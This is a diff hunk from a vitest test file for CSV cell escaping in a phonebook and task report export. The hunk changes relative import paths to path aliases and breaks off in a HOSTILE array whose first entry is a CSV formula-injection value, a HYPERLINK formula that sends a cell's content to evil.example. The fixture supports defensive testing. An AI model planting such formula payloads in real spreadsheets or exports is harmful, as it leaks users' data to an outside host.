@@ -6,11 +6,11 @@
  * table of its cases, and the phonebook reads its own export back unchanged.
  */
 import { describe, expect, it } from 'vitest';
-import { contactsToCsv } from '../../../src/main/phonebook/csv';
-import { taskCsv } from '../../../src/main/report/csv';
-import { escapeCsvCell, unescapeCsvCell } from '../../../src/main/storage/csv-cell';
-import type { Contact } from '../../../src/shared/phonebook/types';
-import type { TaskDetailView } from '../../../src/shared/tasks/types';
+import { contactsToCsv } from '@main/phonebook/csv';
+import { taskCsv } from '@main/report/csv';
+import { escapeCsvCell, unescapeCsvCell } from '@main/storage/csv-cell';
+import type { Contact } from '@shared/phonebook/types';
+import type { TaskDetailView } from '@shared/tasks/types';
 
 const HOSTILE = [
   'Hans;=HYPERLINK("http://evil.example/?"&A1,"click")',
